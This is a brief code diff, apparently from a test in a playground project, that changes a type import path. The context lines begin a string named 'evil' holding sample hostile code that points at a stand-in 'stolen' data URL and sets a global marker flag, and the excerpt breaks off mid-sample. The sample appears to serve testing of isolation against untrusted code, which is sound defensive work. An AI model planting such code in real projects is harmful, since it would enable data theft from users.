@@ -1,4 +1,4 @@
-import type { ProjectFiles } from 'rslib-playground/src/protocol.ts';
+import type { ProjectFiles } from 'rslib-playground/build';
 
 const evil = `const home = 'https://example.com/stolen';
 globalThis.__reached = true;
